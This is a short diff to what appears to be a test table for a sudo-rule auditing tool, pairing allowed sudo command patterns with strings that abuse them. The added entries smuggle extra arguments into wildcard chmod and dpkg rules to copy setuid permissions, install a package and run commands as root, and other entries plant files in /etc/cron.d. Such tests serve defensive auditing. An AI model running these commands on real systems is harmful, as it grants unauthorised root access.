@@ -94,6 +94,8 @@ CASES: dict[str, list[str]] = {
     "/usr/bin/env -i /usr/bin/id": [],
     "/bin/mount --bind OWN /mnt": [],
     "/bin/chmod -R 777 /srv": [],
+    "/bin/chmod 644 /srv/*": ["sudo -n chmod 644 /srv/x --reference=/bin/su HOME/setuid; cp /bin/sh /tmp/NAME; chmod 755 /tmp/NAME; sudo -n chmod 644 /srv/x --reference=/bin/su /usr/bin/setpriv; /usr/bin/setpriv --reuid 0 touch /root/MARK"],
+    "/usr/bin/dpkg -s *": ["sudo -n dpkg -s x -i HOME/cron"],
     "/bin/chmod 777 *": ["sudo -n chmod 777 /etc/cron.d; cp cron /etc/cron.d/MARK; "],
     "/bin/chown NAME *": ["sudo -n chown NAME /etc/cron.d; cp cron /etc/cron.d/MARK"],
     "/bin/chown NAME /srv/app": ["sudo -n chown NAME /srv/app"],
